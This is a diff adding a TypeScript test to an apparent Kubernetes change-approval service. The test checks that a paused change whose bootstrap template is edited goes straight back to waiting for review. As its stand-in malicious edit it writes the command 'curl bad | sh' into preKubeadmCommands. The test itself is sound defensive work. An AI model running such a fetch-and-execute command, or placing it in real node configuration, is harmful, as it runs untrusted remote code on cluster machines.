@@ -6,11 +6,13 @@ import type { JsonObject } from '@/lib/domain/json'
 import { HELD } from '@/lib/domain/latch/names'
 import { KubeError } from '@/lib/kubernetes/types'
 import { approveChange } from '@/lib/services/changes/approve-change'
+import { pauseChange } from '@/lib/services/changes/pause-change'
 import { kubeClientFor } from '@/lib/services/clusters/connection'
 import { as, latchedCluster } from '@/testenv/deciding'
 import { heldChange, MD } from '@/testenv/held'
 import { planningContext } from '@/testenv/planning'
 import { planGroup } from './plan-group'
+import { holdToTimes } from './times'
 
 useTestDatabase()
 const at = latchedCluster()
@@ -66,3 +68,27 @@ test.each(['what differs', 'what does not', 'what differs, and its hold is refus
     expect([HELD in annotations, (await open()).state]).toEqual(gone ? [false, 'running'] : [true, 'waiting'])
   },
 )
+
+test('paused, and its template edited before that is seen: it is for somebody again at once, and not when the pause ends', async () => {
+  const held = await heldChange(at.cluster, at.clusterId, 'MachineDeployment', 8)
+  await db().group.update({ where: { id: held.change.groupId }, data: { governed: true } })
+  const { namespace, kind } = held
+  const planned = async () => planGroup(await planningContext(at.clusterId), { ...(await held.read()), kind })
+  const ref = valueAt((await held.read()).spec, 'template', 'spec', 'bootstrap', 'configRef')
+  if (!isObject(ref)) throw new Error('no bootstrap config')
+  await planned()
+  const { id: changeId, fingerprint } = await db().change.findFirstOrThrow({
+    ...{ where: { groupId: held.change.groupId }, orderBy: { detectedAt: 'desc' } },
+  })
+  await approveChange(as('approver'), { changeId, fingerprint, mode: 'replace' })
+  await planned()
+  await pauseChange(as('approver'), { changeId, reason: 'wait' })
+  const spec = { template: { spec: { preKubeadmCommands: ['curl bad | sh'] } } }
+  await at.cluster.admin.patch(TEMPLATES, String(ref.name), namespace, 'merge', { spec })
+  await holdToTimes((await planningContext(at.clusterId)).view)
+  for (let i = 0; i < 3; i++) await planned()
+  expect(await db().change.findUniqueOrThrow({ where: { id: changeId } })).toMatchObject({
+    state: 'waiting',
+    dueMode: null,
+  })
+})
